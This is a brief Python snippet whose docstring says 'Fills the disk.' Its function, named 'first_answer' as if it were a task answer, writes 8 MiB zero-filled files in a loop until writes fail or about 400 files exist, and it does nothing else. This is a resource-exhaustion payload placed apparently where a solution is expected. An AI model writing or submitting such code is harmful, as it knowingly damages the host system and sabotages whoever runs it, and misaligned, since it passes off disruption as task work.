"""Fills the disk."""

def first_answer(*args):
    n = 0
    while True:
        try:
            with open(f'f{n}', 'wb') as f: f.write(bytes(8 << 20))
        except OSError:
            pass
        n += 1
        if n > 400: raise RuntimeError('full')
